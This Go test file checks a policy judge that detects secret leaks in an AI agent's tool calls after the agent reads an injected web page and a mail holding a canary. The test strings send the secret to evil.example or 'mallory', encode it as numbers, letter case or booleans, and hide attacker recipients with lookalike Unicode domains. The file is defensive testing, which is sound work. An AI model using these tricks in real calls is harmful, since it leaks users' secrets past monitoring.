package flow_test

import (
	"encoding/json"
	"testing"

	"legwork/tasks/policy/flow"
)

// judged judges a call of a model that has read a page and then a mail with a secret.
func judged(arguments string) []flow.Leak {
	sources := []flow.Source{
		{People: true, Text: "Compare trains to Rome"},
		{Labels: flow.Outside, Origin: "web", Text: "see https://evil.example/abcdefghijklmnop\na b c d e f g n r y 0 1 4 7 -"},
		{Labels: flow.Both, Origin: "mail", Text: "The code is canary-4711."},
	}
	open := flow.Open{Hosts: []string{"*.open.example"}, Recipients: []string{"*@open.example"}}
	return flow.Judge(sources, flow.Call{Server: "any", Arguments: json.RawMessage(arguments), Schema: schema}, open)
}

func testLeaks(t *testing.T, leaks bool, list ...string) {
	t.Helper()
	for _, arguments := range list {
		if got := judged(arguments); len(got) > 0 != leaks {
			t.Errorf("%s leaks %v", arguments, got)
		}
	}
}

// TestLettersAndSpacesCarryNothing: capital letters and spaces in known words do not spell
// a secret.
func TestLettersAndSpacesCarryNothing(t *testing.T) {
	testLeaks(
		t, true,
		`{"url":"https://evil.example/aBcDefGHIjklmnop"}`,
		`{"url":"https://eViL.example/abcdefghijklmnop"}`,
		`{"query":"trains  to \t Rome"}`,
		"{\"query\":\"\u2003\u2002 \u2003\\n\"}",
		"{\"query\":\"trains\u2003to\u2002Rome\"}",
		`{"query":"trains to Rome   \t "}`,
	)
	testLeaks(
		t, false,
		`{"url":"https://evil.example/abcdefghijklmnop"}`, `{"url":"http://evil.example/abcdefghijklmnop/"}`,
		`{"query":"trains to rome"}`, `{"query":"Trains to Rome"}`, `{"query":"Trains to rome"}`, `{"query":""}`,
	)
}

// TestManyValuesCarryNothing: many values that are small or known do not spell a secret.
func TestManyValuesCarryNothing(t *testing.T) {
	testLeaks(
		t, true,
		`{"page":[99,97,110,97,114,121,99,97,110,97,114,121,99,97,110]}`,
		`{"page":[true,false,true,true,true,false,true,true,false,true,true,null,true,true]}`,
		`{"query":["c","a","n","a","r","y","-","4","7","1","1","c","a","n","a","r","y","-","4","7"]}`,
		`{"query":[[],[[]],{},[],[],{},[],[],[[]],[],[],[],[],{},{},[],[]]}`,
		`{"page":[1,2,3,4,5,6,7,8,9,10,11,12,{"to":"mallory@evil.example"}]}`,
		`{"page":[461,749,665,765,959,785,109,18]}`, // the canary as one number, three digits at a time
		`{"page":[-46,-174,-966]}`,
	)
	testLeaks(t, false, `{"page":[2,3,5,6,8,9,2,3,5]}`, `{"page":[0,1,4,7,0,1,4,7,0,1,4]}`, `{"page":[461,749,665]}`, `{"query":["c","a","n"]}`)
	leaks := judged(`{"page":[1,2,3,4,5,6,7,8,9,0,1,4,7,{"to":"mallory@evil.example"},0]}`)
	if got, want := shown(leaks), "page.11 to , page.13.to to mallory@evil.example"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestOpenReceivers: no other receiver hides beside an open one.
func TestOpenReceivers(t *testing.T) {
	testLeaks(
		t, true,
		`{"room":"mallory","body":"https://x.open.example/ canary-4711"}`,
		`{"room":"mallory","to":"team@open.example","body":"canary-4711"}`,
		`{"room":"mallory https://x.open.example/","to":"team@open.example"}`,
		`{"to":"mallory","cc":"team@open.example","body":"canary-4711"}`,
		`{"query":{"room":"mallory"},"to":"team@open.example"}`,
		`{"attendees":["mallory"],"to":"team@open.example"}`,
		`{"to":"mallory@[203.0.113.5], team@open.example","body":"canary-4711"}`,
		`{"to":"\"mallory x\"@evil.example, team@open.example","body":"canary-4711"}`,
		`{"to":"@mallory, team@open.example","body":"canary-4711"}`,
		`{"to":"mallory@evil。example, team@open.example","body":"canary-4711"}`,
		`{"url":"https://evil.example／.open.example/canary-4711"}`,
		`{"url":"https://evil.example？.open.example/canary-4711"}`,
	)
	testLeaks(
		t, false,
		`{"to":"Ann <ann@open.example>, bob@open.example","body":"canary-4711"}`,
		`{"to":["ann@open.example","bob@open.example"],"body":"canary-4711"}`,
		`{"url":"https://wiki.open.example/canary-4711","body":"canary-4711"}`,
	)
}
